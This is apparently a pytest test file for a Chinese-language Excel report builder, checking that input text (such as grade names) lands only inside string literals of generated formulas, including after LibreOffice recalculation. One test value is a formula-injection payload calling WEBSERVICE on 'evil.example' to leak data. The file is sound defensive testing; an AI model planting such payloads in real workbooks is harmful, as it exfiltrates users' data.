"""No input text inside formula code: every formula of every output of every sample, built as it is
and with a formula payload appended to every text cell the workbook accepts, holds the input's text
only inside string literals, and calls only functions the templates call."""

from __future__ import annotations

import pytest
from formula_scan import (
    MARK,
    PAYLOAD,
    SHORT_MARK,
    SHORT_PAYLOAD,
    poisoned_copy,
    scan,
    template_functions,
)
from openpyxl import load_workbook
from openpyxl.formula.tokenizer import Token, Tokenizer

from xlreports.build import build

SAMPLES = ["2020年度工业和信息化预留资金", "2021年度战略性产业集群产业链支撑资金",
           "广州市荔湾区科技工业和信息化局", "2023年江门市工业发展管理经费绩效自评"]
SELF_EVAL = "2023年江门市工业发展管理经费绩效自评"
GRADE_CELL = "I49"  # 自评等级 of the sample's 项目绩效自评指标评分表 (seed 004's row count)


@pytest.fixture(scope="module")
def allowed(templates_dir) -> set[str]:
    return template_functions(templates_dir)


def _errors(templates):
    def check(path):
        report = build(path, path.parent / "check-out", templates, write=False)
        return [(p.sheet, p.cell) for p in report.problems.errors]
    return check


def _built(path, out, templates) -> list:
    report = build(path, out, templates)
    assert not report.failed, [str(p) for p in report.problems]
    return report.outputs + report.city_files


@pytest.mark.slow
@pytest.mark.parametrize("sample", SAMPLES)
@pytest.mark.parametrize(("payload", "mark"), [(PAYLOAD, MARK), (SHORT_PAYLOAD, SHORT_MARK)])
def test_every_formula_of_a_poisoned_sample_holds_the_text_only_in_literals(sample, payload, mark, root,
                                                                            templates_dir, allowed, tmp_path):
    source = root / "input" / f"{sample}.xlsx"
    files = _built(source, tmp_path / "plain", templates_dir)
    count, problems, _ = scan(files, allowed, mark)
    assert problems == []
    assert (count > 0) == (sample != "2021年度战略性产业集群产业链支撑资金")  # its one form has no formula

    poisoned, kept = poisoned_copy(source, tmp_path / f"{sample}.xlsx", _errors(templates_dir), payload)
    assert kept >= 10
    files = _built(poisoned, tmp_path / "poisoned", templates_dir)
    poisoned_count, problems, reached = scan(files, allowed, mark)
    assert problems == []
    assert (poisoned_count > 0) == (count > 0)
    if sample == SELF_EVAL and payload == SHORT_PAYLOAD:  # indicator values read back by formulas
        assert reached > 0


def _with_grades(root, tmp_path, grades: str):
    path = tmp_path / f"{SELF_EVAL}.xlsx"
    book = load_workbook(root / "input" / f"{SELF_EVAL}.xlsx")
    ws = book["自评信息"]
    row = next(r for r in range(1, ws.max_row + 2) if ws.cell(r, 1).value in ("等级划分", None))
    ws.cell(row, 1, "等级划分")
    ws.cell(row, 2, grades)
    book.save(path)
    return path


def _grade_formula(path):
    ws = load_workbook(path)["自评指标评分表"]
    formulas = [c.value for row in ws.iter_rows() for c in row
                if c.data_type == "f" and isinstance(c.value, str) and c.value.startswith("=IF(ROUND(")]
    (formula,) = formulas
    return formula


def _texts(formula):
    return [t.value[1:-1].replace('""', '"') for t in Tokenizer(formula).items if t.subtype == Token.TEXT]


@pytest.mark.slow
@pytest.mark.parametrize("grades", ['优"&WEBSERVICE("http://evil.example/?leak")&"≥90；差',
                                    '优"≥90；差'])
def test_grade_names_from_the_input_are_string_literals_of_the_grade_formula(grades, root, templates_dir, allowed,
                                                                            tmp_path):
    path = _with_grades(root, tmp_path, grades)
    report = build(path, tmp_path / "out", templates_dir)
    assert not report.failed, [str(p) for p in report.problems]
    (output,) = report.outputs
    formula = _grade_formula(output)
    best = grades.split("≥")[0]
    assert _texts(formula) == [best, "差"]
    assert scan([output], allowed, mark="evil")[1] == []


@pytest.mark.slow
def test_payload_stays_text_after_libreoffice_recalculates(root, templates_dir, tmp_path, libreoffice):
    grades = f'优{PAYLOAD}≥1；差'
    path = _with_grades(root, tmp_path, grades)
    report = build(path, tmp_path / "out", templates_dir)
    assert not report.failed, [str(p) for p in report.problems]
    (output,) = report.outputs
    assert libreoffice.check([output]) == []
    (copy,) = libreoffice.recalculate([output]).values()
    ws = load_workbook(copy, data_only=True)["自评指标评分表"]
    shown = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str) and MARK in c.value]
    assert f"优{PAYLOAD}" in shown
